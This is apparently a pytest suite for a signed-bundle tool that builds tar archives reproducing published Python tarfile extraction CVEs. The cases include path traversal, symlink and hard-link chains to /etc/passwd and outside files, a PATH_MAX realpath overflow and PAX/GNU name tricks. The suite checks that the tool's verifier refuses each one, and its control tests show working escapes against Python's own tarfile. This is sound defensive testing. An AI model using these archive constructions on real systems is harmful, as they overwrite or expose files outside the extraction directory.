"""Issue 13, family 3: the tarfile extraction-filter bypasses, made into bundles.

Each case reproduces the technique of a published `tarfile` CVE (or a parser-differential trick
of the same family) inside an otherwise valid bundle: the session bundle re-signed by the TRUSTED
key, with the hostile member's own name signed into the manifest and the statement wherever a name
can be signed. So the signature, the manifest and every other digest check pass, and only the
reader's own rules stand between the bundle and the host. Every case has exactly one expected exit
code, and gets it from:

- `bundle extract --json` as a real process (the code, one error line, the verify report as one
  JSON document; DEST absent; nothing written, changed or chmodded anywhere in the test's tree: a
  snapshot of every path, mode, size, mtime and digest before and after), and `bundle verify`'s
  code through the library API (`api.verify`, in-process);
- the standard-library verifier, `runtime_stub/verify.py`, under every CPython 3.8 ... 3.13 on the
  machine.

Two controls show that the techniques are real: Python's own `tarfile` extracts the 2007 traversal
outside its destination on 3.8, and the 2025 realpath overflow (CVE-2025-4517) through
`filter="data"` on the 3.11/3.12/3.13 releases installed here; and a re-signed bundle with extra
signed *regular* files verifies, so each refusal comes from the hostile member, not the harness.

The techniques (CPython gh-135034 and its CVEs; docs/security.md maps each to its defence):
CVE-2007-4559 `..` and absolute names; CVE-2024-12718 metadata (mode, mtime) applied through a
link to a file outside; CVE-2025-4138 symlink chains whose targets are judged before later links
exist; CVE-2025-4330 a hard link to a symlink that points outside; CVE-2025-4435 members refused
by the filter still extracted (``errorlevel=0``); CVE-2025-4517 a symlink chain longer than
PATH_MAX, so ``os.path.realpath`` stops resolving and the filter misjudges where a link goes.
"""

from __future__ import annotations

import os
import subprocess
from pathlib import Path
from typing import Callable, Dict, List, Tuple

import pytest

from bundler import api
from campaign import assert_one_error_line, assert_verdict, hostile, pythons, stdlib_verdicts, verify_json
from conftest import run_bundle
from hostile import Bundle, gnu_long, header, insert, member, pax, resign, tree_snapshot, write_tar

R = "tiny-1.0.0"
ENGINE = "engines/tiny_16x16_fp32_sm86.engine"
README = "runtime/README.txt"
STEPS = "abcdefghijklmnop"  # the realpath-overflow chain, as in CPython's test for CVE-2025-4517
COMPONENT = "d" * 230  # 16 such components and their links exceed Linux's PATH_MAX of 4096

Parts = List[Tuple[str, bytes]]
# builder(bundle, trusted key, directory for absolute targets) -> tar chunks
Builder = Callable[[Bundle, Path, Path], List[bytes]]


def _signed(b: Bundle, key: Path, extra: Dict[str, bytes]) -> Parts:
    """The bundle re-signed with ``extra`` paths added to the signed file list (not yet in the tar)."""
    return resign(b, key, extra_files=extra).chunks()


def _then(parts: Parts, *chunks: bytes, before: str = "") -> List[bytes]:
    for c in chunks:  # each lands right before ``before`` (or at the end): their order is kept
        parts = insert(parts, c, before=before or None)
    return [c for _, c in parts]


def _link(name: str, target: str, kind: bytes = b"2") -> bytes:
    return member(f"{R}/{name}", typeflag=kind, linkname=target)


def _dir(name: str, mode: int = 0o755) -> bytes:
    return member(f"{R}/{name}", typeflag=b"5", mode=mode)


def _file(name: str, data: bytes = b"x\n", mode: int = 0o644) -> bytes:
    return member(name if name.startswith(("/", R)) else f"{R}/{name}", data, mode=mode)


def _replace(parts: Parts, rel: str, chunk: bytes) -> List[bytes]:
    return [chunk if r == rel else c for r, c in parts]


def _realpath_overflow(b: Bundle, key: Path, out: Path) -> List[bytes]:
    chain: List[bytes] = []
    path = ""
    for s in STEPS:
        chain.append(_dir(f"{path}{COMPONENT}", 0o777))
        chain.append(_link(f"{path}{s}", COMPONENT))
        path += COMPONENT + "/"
    linkpath = "/".join(STEPS) + "/" + "l" * 254
    chain += [_link(linkpath, "/".join([".."] * (len(STEPS) + 1))),  # up to the bundle's parent: the destination's
              _link("escape", linkpath + "/.."),
              _link("flaglink", "escape/flag", b"1"),
              _file("flaglink", b"overwrite"),
              _file("escape/newfile", b"new")]
    # The first directory is signed as a parent of a signed file, so it passes as a directory member
    # would; the chain's first symlink is what must stop it.
    parts = _signed(b, key, {f"{COMPONENT}/keep": b"k\n", STEPS[0]: b""})
    return _then(parts, _file(f"{COMPONENT}/keep", b"k\n"), *chain)


# name -> (builder, expected exit code)
CASES: Dict[str, Tuple[Builder, int]] = {
    # CVE-2007-4559: traversal by name
    "cve-2007-4559-dotdot": (lambda b, k, o: _then(_signed(b, k, {"../../escape.sh": b"#!/bin/sh\n"}),
                                                   _file(f"{R}/../../escape.sh", b"#!/bin/sh\n", 0o755)), 14),
    "cve-2007-4559-dotdot-deep": (lambda b, k, o: _then(_signed(b, k, {"runtime/../../../escape.sh": b"x"}),
                                                        _file(f"{R}/runtime/../../../escape.sh", b"x")), 14),
    "cve-2007-4559-absolute": (lambda b, k, o: _then(_signed(b, k, {}), _file(f"{o}/abs-escape.sh")), 14),
    "cve-2007-4559-pax-path-dotdot": (lambda b, k, o: _then(_signed(b, k, {"../../escape.sh": b"x"}), member(
        f"{R}/runtime/notes.txt", b"x", pax_path=f"{R}/../../escape.sh")), 14),
    "cve-2007-4559-ustar-prefix-absolute": (lambda b, k, o: _then(_signed(b, k, {}), header(
        "prefix-escape.sh", 2, mode=0o644, prefix=str(o)) + b"x\n" + b"\0" * 510), 14),
    # CVE-2024-12718: mode and mtime set through a link on something outside
    "cve-2024-12718-chmod-through-symlink": (lambda b, k, o: _then(
        _signed(b, k, {"golden/cache": b""}), _link("golden/cache", str(o / "outside")), _dir("golden/cache", 0o777),
        _file("golden/cache/flag", b"x", 0o777)), 14),
    "cve-2024-12718-chmod-through-hardlink": (lambda b, k, o: _then(
        _signed(b, k, {"runtime/hl": b""}), _link("runtime/hl", str(o / "outside" / "flag"), b"1"),
        _file("runtime/hl", b"overwrite", 0o4777)), 14),
    # CVE-2025-4138: a chain of symlinks, each harmless alone
    "cve-2025-4138-symlink-chain": (lambda b, k, o: _then(
        _signed(b, k, {"a": b""}), _link("a", "."), _link("a/b", ".."), _link("a/b/c", "../.."),
        _file("a/b/c/escape", b"x")), 14),
    # CVE-2025-4330: a hard link to a symlink that leads outside
    "cve-2025-4330-hardlink-to-symlink": (lambda b, k, o: _then(
        _signed(b, k, {"runtime/s": b""}), _link("runtime/s", "../../../outside/flag"),
        _link("runtime/h", f"{R}/runtime/s", b"1"), _file("runtime/h", b"overwrite")), 14),
    # CVE-2025-4435: a refused member while good ones are already streaming (errorlevel=0 kept them)
    "cve-2025-4435-refused-mid-stream": (lambda b, k, o: _then(
        _signed(b, k, {}), _file(f"{o}/abs-mid.sh"), before="golden/inputs.npz"), 14),
    "cve-2025-4435-refused-last": (lambda b, k, o: _then(_signed(b, k, {}), _link("runtime/zz", "/etc/passwd")), 14),
    # CVE-2025-4517: a chain longer than PATH_MAX
    "cve-2025-4517-realpath-overflow": (_realpath_overflow, 14),
    # a directory, later replaced by a link or a file of the same name
    "directory-then-symlink": (lambda b, k, o: _then(
        _signed(b, k, {}), _dir("engines"), _link("engines", str(o / "outside")), _file("engines/flag"),
        before=ENGINE), 14),
    "directory-then-file": (lambda b, k, o: _then(_signed(b, k, {}), _dir("golden"), _file("golden"),
                                                  before="golden/inputs.npz"), 13),
    "file-then-directory": (lambda b, k, o: _then(_signed(b, k, {}), _dir("model/tiny.onnx"),
                                                  before="golden/inputs.npz"), 13),
    # names that switch between PAX and GNU forms: two parsers, two names
    "pax-path-then-gnu-longname": (lambda b, k, o: _then(_signed(b, k, {}), pax([("path", f"{R}/runtime/ok.txt")])
                                                         + gnu_long(f"{R}/../../escape.sh") + _file("runtime/ok.txt")), 14),
    "gnu-longname-then-pax-path": (lambda b, k, o: _then(_signed(b, k, {}), gnu_long(f"{R}/../../escape.sh")
                                                         + pax([("path", f"{R}/runtime/ok.txt")]) + _file("runtime/ok.txt")), 14),
    "gnu-longlink": (lambda b, k, o: _then(_signed(b, k, {}), gnu_long("/etc/passwd", b"K") + _link("runtime/ll", "x")), 14),
    "pax-path-twice": (lambda b, k, o: _then(_signed(b, k, {}), pax([("path", f"{R}/runtime/a"), ("path", f"{R}/../b")])
                                             + _file("runtime/a")), 10),
    "two-pax-headers": (lambda b, k, o: _then(_signed(b, k, {}), pax([("path", f"{R}/runtime/a")])
                                              + pax([("path", f"{R}/../b")]) + _file("runtime/a")), 10),
    "global-pax-path": (lambda b, k, o: _then(_signed(b, k, {}), pax([("path", "../../escape.sh")], b"g"), before=README), 14),
    "ustar-name-escapes-under-pax-path": (lambda b, k, o: _replace(_signed(b, k, {}), README, member(
        f"{R}/{README}", b.data(README), pax_path=f"{R}/{README}", ustar_name="../../../escape.txt")), 14),
    # links and link-like fields
    "hardlink-to-outside": (lambda b, k, o: _then(_signed(b, k, {"runtime/passwd": b""}),
                                                  _link("runtime/passwd", "/etc/passwd", b"1")), 14),
    "linkname-on-a-signed-regular-file": (lambda b, k, o: _replace(_signed(b, k, {}), README, header(
        f"{R}/{README}", len(b.data(README)), linkname="/etc/passwd") + b.data(README) + hostile.pad(len(b.data(README)))), 14),
    "symlink-replacing-a-signed-file": (lambda b, k, o: _replace(_signed(b, k, {}), "runtime/loader.py",
                                                                 _link("runtime/loader.py", "/etc/passwd")), 14),
    # sparse members (GNU type S; PAX 1.0 sparse maps): data that is not where the header says
    "gnu-sparse": (lambda b, k, o: _then(_signed(b, k, {}), header(f"{R}/runtime/sparse", 0, b"S")), 14),
    "pax-sparse-map": (lambda b, k, o: _then(_signed(b, k, {}), pax([("GNU.sparse.major", "1"), ("GNU.sparse.minor", "0"),
                                                                     ("GNU.sparse.name", f"{R}/runtime/s")])
                                             + _file("runtime/s")), 14),
}


@pytest.fixture(scope="module")
def case_dir(tmp_path_factory, tiny_bundle, keys) -> Path:  # noqa: ANN001
    """Every case's tar, built once: CASE.tar, plus the control; ``outside/flag`` is the target."""
    d = tmp_path_factory.mktemp("tarfile-campaign")
    (d / "outside").mkdir()
    (d / "outside" / "flag").write_text("secret\n")
    os.chmod(d / "outside" / "flag", 0o600)
    b = Bundle.read(tiny_bundle)
    for name, (build, _) in CASES.items():
        write_tar(d / f"{name}.tar", build(b, keys["release"]["key"], d))
    resign(b, keys["release"]["key"], extra_files={"runtime/notes.txt": b"x\n"}).write(
        d / "control.tar", lambda parts: insert(parts, _file("runtime/notes.txt")))
    return d


@pytest.fixture(scope="module")
def stdlib(case_dir, keys) -> Dict[str, Dict[str, Tuple[int, str, str]]]:  # noqa: ANN001
    pub = str(keys["release"]["pub"])
    cases = {n: [str(case_dir / f"{n}.tar"), "--trust", pub] for n in [*CASES, "control"]}
    return stdlib_verdicts(cases)


def test_control_resigned_with_extra_signed_files_verifies(case_dir, keys, stdlib) -> None:  # noqa: ANN001
    """The harness itself (re-signing, extra signed names, hand-written headers) makes bundles
    that every verifier accepts: so each refusal below comes from its hostile member."""
    assert_verdict(verify_json(case_dir / "control.tar", keys["release"]["pub"]), 0)
    assert {py: v["control"][0] for py, v in stdlib.items()} == {py: 0 for py in stdlib}


@pytest.mark.parametrize("case", list(CASES))
def test_library_verify_refuses(case, case_dir, keys) -> None:  # noqa: ANN001
    """`bundle verify`'s own code, through the library API (in-process: the CLI runs below)."""
    rep = api.verify(case_dir / f"{case}.tar", api.load_trust([keys["release"]["pub"]]))
    assert (rep.ok, rep.exit_code) == (False, CASES[case][1]), rep.error
    assert rep.signers and rep.signers[0].valid is True  # the trusted signature held: the member was stopped


@pytest.mark.parametrize("case", list(CASES))
def test_bundle_extract_refuses_and_writes_nothing(case, case_dir, keys, tmp_path) -> None:  # noqa: ANN001
    """`bundle extract --json` as a real process: the verdict (exit code, one error line, the
    verify report as one JSON document) and the file system after it."""
    code = CASES[case][1]
    tar = tmp_path / "in.tar"
    tar.write_bytes((case_dir / f"{case}.tar").read_bytes())
    (tmp_path / "outside").mkdir()
    (tmp_path / "outside" / "flag").write_text("secret\n")
    work = tmp_path / "a" / "b" / "work"
    work.mkdir(parents=True)

    def snapshot() -> dict:  # the staging directory comes and goes in work/: its mtime may change, nothing else
        s = tree_snapshot(tmp_path)
        s["a/b/work"] = s["a/b/work"][:3]
        return s

    before, before_targets = snapshot(), tree_snapshot(case_dir)
    r = run_bundle("extract", tar, "--trust", keys["release"]["pub"], "--dest", work / "tiny", "--json")
    doc = assert_verdict(r, code)
    assert doc["extracted_to"] is None and doc["signers"][0]["valid"] is True
    assert not (work / "tiny").exists() and os.listdir(work) == []
    assert snapshot() == before  # nothing written, linked, chmodded or touched
    assert tree_snapshot(case_dir) == before_targets  # nor where the absolute names point


@pytest.mark.parametrize("case", list(CASES))
def test_stdlib_verifier_refuses_on_every_python(case, stdlib) -> None:  # noqa: ANN001
    assert len(stdlib) == len(pythons())
    for py, verdicts in stdlib.items():
        code, err, out = verdicts[case]
        assert code == CASES[case][1], f"{py}: {code} {err.strip()}"
        assert_one_error_line(err, code)


# -- controls: the techniques are real against Python's own tarfile --------------------------------

def _python(version: str) -> str:
    for py in pythons():
        if subprocess.run([py, "-c", f"import sys; sys.exit(sys.version_info[:2] != {tuple(map(int, version.split('.')))})"]
                          ).returncode == 0:
            return py
    pytest.skip(f"no Python {version} on this machine")


def test_control_tarfile_on_38_extracts_the_traversal(case_dir, tmp_path) -> None:  # noqa: ANN001
    """Python 3.8's tarfile (no filter) writes the CVE-2007-4559 member outside its destination;
    our verifier refused the same tar above."""
    py = _python("3.8")
    dest = tmp_path / "x" / "dest"
    dest.mkdir(parents=True)
    p = subprocess.run([py, "-I", "-c", "import tarfile,sys; tarfile.open(sys.argv[1]).extractall(sys.argv[2])",
                        str(case_dir / "cve-2007-4559-dotdot.tar"), str(dest)], capture_output=True, text=True, timeout=120)
    assert p.returncode == 0, p.stderr
    assert (dest.parent / "escape.sh").read_bytes() == b"#!/bin/sh\n"  # R/../../escape.sh: beside the destination


def test_control_realpath_overflow_defeats_the_data_filter(tmp_path) -> None:  # noqa: ANN001
    """CPython's own reproduction of CVE-2025-4517 (a symlink chain past PATH_MAX, then a hard link
    through it): `extractall(filter="data")` overwrites a file outside its destination on the
    interpreters installed here (all older than the fix), the filter notwithstanding."""
    py = next((p for p in reversed(pythons()) if subprocess.run(
        [p, "-c", "import sys, tarfile; sys.exit(0 if hasattr(tarfile, 'data_filter') else 1)"]).returncode == 0), None)
    if py is None:
        pytest.skip("no Python with tarfile filters")
    outer = tmp_path / "outer"
    dest = outer / "dest"
    dest.mkdir(parents=True)
    (outer / "flag").write_text("original")
    max_path = os.pathconf(outer, "PC_PATH_MAX")
    comp = "d" * ((max_path - (len(str(dest)) + 1)) // (len(STEPS) + 1))
    chunks, path = [], ""
    for s in STEPS:
        chunks += [member(path + comp, typeflag=b"5", mode=0o777), member(path + s, typeflag=b"2", linkname=comp)]
        path += comp + "/"
    linkpath = "/".join(STEPS) + "/" + "l" * 254
    chunks += [member(linkpath, typeflag=b"2", linkname="/".join([".."] * len(STEPS))),
               member("escape", typeflag=b"2", linkname=linkpath + "/.."),
               member("flaglink", typeflag=b"1", linkname="escape/flag"),
               member("flaglink", b"overwrite"), member("escape/newfile", b"new")]
    tar = write_tar(tmp_path / "attack.tar", chunks)
    p = subprocess.run([py, "-I", "-c", "import tarfile,sys\ntry: tarfile.open(sys.argv[1]).extractall(sys.argv[2], filter='data')\n"
                        "except Exception as e: print(type(e).__name__, e)", str(tar), str(dest)],
                       capture_output=True, text=True, timeout=120)
    if (outer / "flag").read_text() == "original":
        pytest.skip(f"{py}'s tarfile has the CVE-2025-4517 fix ({p.stdout.strip()})")
    assert (outer / "flag").read_text() == "overwrite" and (outer / "newfile").read_text() == "new"
